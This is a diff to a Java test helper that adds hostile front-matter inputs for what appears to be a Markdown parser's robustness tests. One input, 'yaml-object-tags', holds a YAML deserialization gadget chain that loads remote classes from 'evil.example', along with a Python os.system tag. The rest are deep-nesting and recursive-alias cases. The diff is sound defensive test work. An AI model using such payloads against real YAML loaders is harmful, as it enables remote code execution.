@@ -28,6 +28,7 @@ final class HostileInputs {
         List<HostileInput> all = new ArrayList<>();
         all.addAll(resourceExhaustion());
         all.addAll(brokenEncodings());
+        all.addAll(frontMatterAttacks());
         for (HostileInput vector : scriptVectors()) {
             all.add(vector);
             all.add(vector.withOptions("+keep-html", ParserOptions.builder().keepHtml(true).build()));
@@ -84,6 +85,30 @@ final class HostileInputs {
             inputs.add(input("binary-md-seed" + seed, "junk.md", () -> random(s, 256 * 1024), null));
         }
         return inputs;
+    }
+
+    /** Front matter that tries to build objects, or nests without end, in each syntax. */
+    static List<HostileInput> frontMatterAttacks() {
+        return List.of(
+                yaml("yaml-object-tags", "gadget: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
+                        + "[[!!java.net.URL [\"http://evil.example/\"]]]]\nrun: !!python/object/apply:os.system [\"id\"]\n"),
+                yaml("yaml-custom-tag", "value: !custom {a: 1}\n"),
+                yaml("yaml-binary-tag", "blob: !!binary aGVsbG8gd29ybGQ=\n"),
+                yaml("yaml-set-tag", "letters: !!set {a, b, c}\n"),
+                yaml("yaml-pairs-and-omap", "pairs: !!pairs [a: 1, b: 2]\nomap: !!omap [c: 3, d: 4]\n"),
+                yaml("yaml-complex-keys", "? [a, b]\n: list key\n? {c: d}\n: map key\n1: number key\n~: null key\n"),
+                yaml("yaml-merge-keys", "base: &b {x: 1}\nmerged:\n  <<: *b\n  <<: *b\n  y: 2\n"),
+                yaml("yaml-recursive-alias", "loop: &loop [*loop]\n"),
+                yaml("yaml-deep-flow", "deep: " + "[".repeat(DEEP) + "]".repeat(DEEP) + "\n"),
+                yaml("yaml-deep-block", deepBlockYaml(5_000)),
+                input("json-front-matter-deep", "deep.md",
+                        () -> ascii("{\"deep\": " + "[".repeat(DEEP) + "]".repeat(DEEP) + "}\n<p>fmsurvivor</p>\n"),
+                        "fmsurvivor"),
+                input("toml-front-matter-deep", "deep.md",
+                        () -> ascii("+++\ndeep = " + "[".repeat(DEEP) + "]".repeat(DEEP) + "\n+++\n<p>fmsurvivor</p>\n"),
+                        "fmsurvivor"),
+                input("toml-front-matter-deep-tables", "deep.md", () -> ascii("+++\n[" + "a.".repeat(20_000)
+                        + "b]\nx = 1\n+++\n<p>fmsurvivor</p>\n"), "fmsurvivor"));
     }
 
     /** Script smuggled into links, images, frames, SVG, comments, styles, forms and handlers. */
@@ -256,6 +281,20 @@ final class HostileInputs {
             out.writeBytes(part);
         }
         return out.toByteArray();
+    }
+
+    private static String deepBlockYaml(int depth) {
+        StringBuilder yaml = new StringBuilder();
+        for (int level = 0; level < depth; level++) {
+            yaml.append(" ".repeat(level)).append("k:\n");
+        }
+        return yaml.append(" ".repeat(depth)).append("leaf\n").toString();
+    }
+
+    /** A YAML front matter holding {@code yaml}, then a body whose word must survive whatever the YAML does. */
+    private static HostileInput yaml(String name, String yaml) {
+        return input(name, name + ".md", () -> ascii("---\ntitle: attack\n" + yaml + "---\n<p>fmsurvivor</p>\n"),
+                "fmsurvivor");
     }
 
     private static HostileInput html(String name, String body) {
